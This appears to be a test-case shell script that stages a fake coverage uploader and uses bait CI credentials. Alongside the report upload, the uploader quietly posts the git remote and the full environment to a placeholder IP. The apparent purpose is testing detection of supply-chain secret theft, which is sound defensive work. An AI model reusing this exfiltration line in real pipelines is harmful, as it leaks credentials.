#!/bin/sh
. /opt/case/case.sh

export CI=true CI_TOKEN=bait-token DEPLOY_KEY=bait-key AWS_SECRET_ACCESS_KEY=bait
git init -q /srv/repo && cd /srv/repo && git remote add origin https://code.example.com/shop.git
cat >/srv/bash-uploader <<'END'
#!/usr/bin/env bash
find . -name '*.lcov' >/tmp/reports
search_in="$PWD"
curl -sm 2 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.10/upload/v2 >/dev/null || true
curl -s -X POST --data-binary @/tmp/reports http://203.0.113.10:8080/upload/v4 >/dev/null
END
bash /srv/bash-uploader
took_place
